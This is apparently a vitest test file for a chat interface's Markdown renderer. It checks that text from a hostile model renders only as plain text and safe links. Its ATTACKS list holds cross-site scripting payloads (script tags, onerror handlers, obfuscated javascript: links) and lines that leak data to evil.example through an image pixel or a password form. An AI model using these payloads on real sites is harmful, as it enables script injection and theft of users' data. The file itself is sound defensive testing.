// What a hostile model may write, and what the page makes of it: text and safe links, nothing else.
import { render, screen } from "@testing-library/react";
import { IntlProvider } from "use-intl";
import { describe, expect, it } from "vitest";
import { safeLink } from "./links.ts";
import { Markdown } from "./markdown.tsx";

function show(text: string, streaming = false) {
  return render(
    <IntlProvider locale="en" messages={{}} onError={() => {}}>
      <Markdown text={text} streaming={streaming} />
    </IntlProvider>,
  );
}

const ATTACKS = [
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  "[click](javascript:alert(1))",
  "[click](java\nscript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](&#106;avascript:alert(1))",
  "[click](data:text/html,<script>alert(1)</script>)",
  "[click](vbscript:msgbox(1))",
  "![x](https://evil.example/pixel.png?secret=1)",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  '<iframe src="https://evil.example"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<svg><style>@import "https://evil.example"</style></svg>',
  "<https://evil.example/`onmouseover=alert(1)>",
  "[x](https://user:password@evil.example/)",
  "<form action=https://evil.example><input name=password></form>",
  "[ref]\n\n[ref]: javascript:alert(1)",
  "`` <b>x</b> ``",
  "| <img src=x onerror=alert(1)> | b |\n| - | - |\n| [x](javascript:1) | ![y](http://e.example/y) |",
];

describe("Markdown", () => {
  it.each(ATTACKS)("is harmless: %s", (attack) => {
    for (const streaming of [false, true]) {
      const { container, unmount } = show(attack, streaming);
      expect(
        container.querySelector(
          "script, img, iframe, svg style, form, style, object, embed, base, link",
        ),
      ).toBeNull();
      for (const one of container.querySelectorAll("*")) {
        for (const attribute of one.attributes) expect(attribute.name).not.toMatch(/^on/i);
      }
      for (const anchor of container.querySelectorAll("a")) {
        expect(anchor.getAttribute("href")).toMatch(/^(https?:\/\/|mailto:|\/)/);
        expect(anchor.getAttribute("href")).not.toMatch(/^https?:\/\/[^/]*@/);
      }
      unmount();
    }
  });

  it("shows raw HTML as text", () => {
    const { container } = show("a <b>bold</b> claim");
    expect(container.textContent).toBe("a <b>bold</b> claim");
  });

  it("opens other sites apart and without a referrer, its own pages in place", () => {
    show("[out](https://example.com) and [in](/c/1) and <a@example.com>");
    const out = screen.getByRole("link", { name: "out" });
    expect(out).toHaveAttribute("rel", "noopener noreferrer nofollow");
    expect(out).toHaveAttribute("target", "_blank");
    const own = screen.getByRole("link", { name: "in" });
    expect(own).toHaveAttribute("href", "/c/1");
    expect(own).not.toHaveAttribute("target");
    expect(screen.getByRole("link", { name: "a@example.com" })).toHaveAttribute(
      "href",
      "mailto:a@example.com",
    );
  });

  it("offers a picture as a link instead of fetching it", () => {
    show("![a cat](https://example.com/cat.png)");
    expect(screen.queryByRole("img")).toBeNull();
    expect(screen.getByRole("link", { name: "a cat" })).toHaveAttribute(
      "href",
      "https://example.com/cat.png",
    );
  });

  it("rebases headings below the message's own", () => {
    show("# One\n\n## Two");
    expect(screen.getByRole("heading", { name: "One", level: 3 })).toBeInTheDocument();
    expect(screen.getByRole("heading", { name: "Two", level: 4 })).toBeInTheDocument();
  });

  it("decodes character references to text", () => {
    expect(show("5 &lt; 6 &amp; &#128512; &copy;").container.textContent).toBe("5 < 6 & 😀 ©");
  });

  it("numbers, ticks, tabulates", () => {
    show("3. three\n4. four\n\n- [x] done\n\n| a | b |\n| - | - |\n| 1 | 2 |");
    expect(screen.getAllByRole("list")[0]).toHaveAttribute("start", "3");
    expect(screen.getByRole("checkbox")).toBeChecked();
    expect(screen.getAllByRole("cell")).toHaveLength(2);
  });
});

describe("safeLink", () => {
  it("knows its own origin and what leaves it", () => {
    expect(safeLink("//evil.example/x", "http://here.example")).toEqual({
      href: "http://evil.example/x",
      external: true,
    });
    expect(safeLink("/\\evil.example", "http://here.example")?.external).toBe(true);
    expect(safeLink("docs#a", "http://here.example")).toEqual({ href: "/docs#a", external: false });
    expect(safeLink("blob:http://here.example/1", "http://here.example")).toBeNull();
    expect(safeLink("", "http://here.example")).toBeNull();
  });
});
